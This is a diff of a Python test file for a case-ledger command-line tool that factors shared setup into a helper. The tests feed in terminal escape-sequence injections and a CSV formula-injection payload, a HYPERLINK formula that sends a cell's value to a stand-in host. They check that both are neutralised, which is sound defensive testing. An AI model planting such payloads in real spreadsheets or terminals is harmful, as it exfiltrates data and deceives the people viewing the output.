@@ -297,11 +297,9 @@ def test_the_commands(tmp_path: Any) -> None:
     assert shown["outcome"] == "referred" and shown["reason"] == "to the regulator"
 
 
-def test_escape_sequences_typed_into_a_case_are_shown_not_obeyed(tmp_path: Any) -> None:
-    """A note, an assignee and an actor are typed by people and kept for years. One holding
-    an escape sequence (a window title, a colour) once reached the terminal of whoever ran
-    ``cases show`` raw; it is shown as its escapes now, in the table and in the heading,
-    and kept as typed (JSON gives it back exactly)."""
+def _one_case(tmp_path: Any) -> tuple[str, str]:
+    """A ledger with the test hands booked and their cases opened: its URL and the first
+    case's number, as the command line takes them."""
     url = f"sqlite:///{tmp_path}/cases.sqlite"
     engine = open_ledger(url)
     post_many(engine, hands())
@@ -309,6 +307,15 @@ def test_escape_sequences_typed_into_a_case_are_shown_not_obeyed(tmp_path: Any) 
     engine.dispose()
     case = str(orjson.loads(pitwatch("cases", "list", "--db", url, "--format",
                                      "json").stdout)[0]["case"])
+    return url, case
+
+
+def test_escape_sequences_typed_into_a_case_are_shown_not_obeyed(tmp_path: Any) -> None:
+    """A note, an assignee and an actor are typed by people and kept for years. One holding
+    an escape sequence (a window title, a colour) once reached the terminal of whoever ran
+    ``cases show`` raw; it is shown as its escapes now, in the table and in the heading,
+    and kept as typed (JSON gives it back exactly)."""
+    url, case = _one_case(tmp_path)
     note = "seen\x1b[2K\x1b]0;all clear\x07 [red]x[/red]\nsecond line"
     assert pitwatch("cases", "note", case, note, "--actor", "eve\x1b[8m", "--db", url).code == 0
     assigned = pitwatch("cases", "assign", case, "ann\x9b1m", "--actor", "sup", "--db", url)
@@ -331,13 +338,7 @@ def test_text_that_starts_like_a_formula_is_not_a_formula_in_csv(tmp_path: Any) 
     or ``@SUM(...)`` was written as it was, and ran as a formula on the reviewer's
     machine; such a cell starts with a ``'`` now. A carriage return in a note went out
     unquoted and split its row in two. JSON still gives back exactly what was typed."""
-    url = f"sqlite:///{tmp_path}/cases.sqlite"
-    engine = open_ledger(url)
-    post_many(engine, hands())
-    open_cases(engine, hands(), [sweetheart("P12")], at=AT)
-    engine.dispose()
-    case = str(orjson.loads(pitwatch("cases", "list", "--db", url, "--format",
-                                     "json").stdout)[0]["case"])
+    url, case = _one_case(tmp_path)
     formula = '=HYPERLINK("http://x.test/?"&A1,"open")'
     assert pitwatch("cases", "note", case, "one\rtwo", "--actor", "@SUM(A1)",
                     "--db", url).code == 0
